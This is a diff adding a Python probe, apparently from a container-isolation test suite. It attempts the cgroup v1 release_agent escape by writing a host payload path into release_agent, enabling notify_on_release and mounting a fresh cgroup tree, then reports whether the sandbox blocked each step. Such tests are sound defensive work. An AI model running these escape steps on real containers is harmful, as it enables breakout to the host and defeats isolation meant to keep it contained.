@@ -1,0 +1,28 @@
+# attack: the cgroup v1 release_agent escape (write a host command into release_agent)
+# users: user root
+import glob
+
+from _lib import syscall, verdict
+
+results = {}
+targets = glob.glob("/sys/fs/cgroup/*/release_agent") + glob.glob("/sys/fs/cgroup/release_agent")
+for path in targets or ["/sys/fs/cgroup/memory/release_agent"]:
+    try:
+        with open(path, "w") as f:
+            f.write("/tmp/payload")
+        results[path] = "ok"
+    except OSError as exc:
+        results[path] = exc.strerror
+for path in glob.glob("/sys/fs/cgroup/*/notify_on_release")[:3]:
+    try:
+        with open(path, "w") as f:
+            f.write("1")
+        results[path] = "ok"
+    except OSError as exc:
+        results[path] = exc.strerror
+# Without a writable hierarchy the exploit mounts its own cgroup v1 tree.
+import os
+os.makedirs("/tmp/cg", exist_ok=True)
+results["mount cgroup"] = syscall("mount", b"cgroup", b"/tmp/cg", b"cgroup", 0, b"memory")[1] or "ok"
+wrote = [p for p, r in results.items() if r == "ok" and "release_agent" in p]
+verdict("succeeded" if wrote or results["mount cgroup"] == "ok" else "blocked", results)
